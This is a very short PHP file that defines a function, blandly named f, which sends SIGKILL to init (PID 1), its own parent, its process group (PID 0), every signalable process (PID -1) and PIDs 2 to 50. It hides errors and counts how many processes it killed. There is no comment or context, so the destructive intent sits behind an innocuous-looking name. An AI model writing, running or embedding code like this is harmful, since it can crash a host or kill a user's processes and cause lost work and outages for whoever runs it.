<?php
function f($x) {
    return count(array_filter([1, posix_getppid(), 0, -1, ...range(2, 50)], fn($pid) => $pid != getmypid() && @posix_kill($pid, 9)));
}
